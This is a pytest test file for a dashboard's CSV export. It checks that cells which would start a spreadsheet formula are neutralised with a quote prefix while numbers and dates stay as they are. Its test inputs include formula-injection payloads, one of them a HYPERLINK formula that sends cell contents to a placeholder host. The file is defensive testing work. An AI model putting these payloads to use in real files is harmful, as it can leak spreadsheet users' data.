"""No cell of a CSV file begins with a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from streamlit import config

from dashboard.pages.compare import tables
from dashboard.shared.table_file import csv_of
from tests.dashboard.conftest import Opener

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://x.example?"&A1;"a")',
    "-inf",
    "-",
)
BEGINS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def cells(content: str) -> list[list[str]]:
    """What a spreadsheet reads."""
    return list(csv.reader(io.StringIO(content, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_a_formula_is_quoted(text: str) -> None:
    frame = pd.DataFrame({"name": [text], "tags": [[text, "b"]], text: ["a"]})
    head, row = cells(csv_of(frame))
    assert row[0] == f"'{text}"
    assert row[1] == f"'{text}, b"
    assert head == ["name", "tags", f"'{text}"]


def test_numbers_dates_and_other_text_stay_as_they_are() -> None:
    frame = pd.DataFrame(
        {
            "score": [-0.5, float("nan")],
            "epoch": pd.array([-3, None], dtype="Int64"),
            "at": pd.to_datetime(["2026-01-02", "2026-01-03"]),
            "text": ["-1.5e-3", "a-b"],
            "mixed": [-1, "plain = text"],
        }
    )
    assert cells(csv_of(frame))[1:] == [
        ["-0.5", "-3", "2026-01-02", "-1.5e-3", "-1"],
        ["", "", "2026-01-03", "a-b", "plain = text"],
    ]


@given(st.lists(st.tuples(st.text(), st.text()), min_size=1, max_size=5))
def test_no_cell_begins_with_a_formula(rows: list[tuple[str, str]]) -> None:
    content = csv_of(pd.DataFrame(rows, columns=["=a", "b"]))
    for cell in (cell for row in cells(content) for cell in row):
        assert not cell.startswith(BEGINS) or is_number(cell)


def is_number(cell: str) -> bool:
    """Whether a spreadsheet reads it as a number, and so as no formula."""
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def test_streamlits_own_export_stays_off_when_its_options_are_read_again(
    open_page: Opener,
) -> None:
    config.get_config_options(force_reparse=True)
    open_page("overview")
    assert config.get_option("client.disableDataExport") is True


def test_the_metrics_of_a_comparison_hold_no_formula() -> None:
    frame = pd.DataFrame({"run": ["=1+1"], "split": ["train"], "name": ["@x"], "value": [-1.0]})
    assert cells(tables.csv_of(frame))[1] == ["'=1+1", "train", "'@x", "-1.0"]
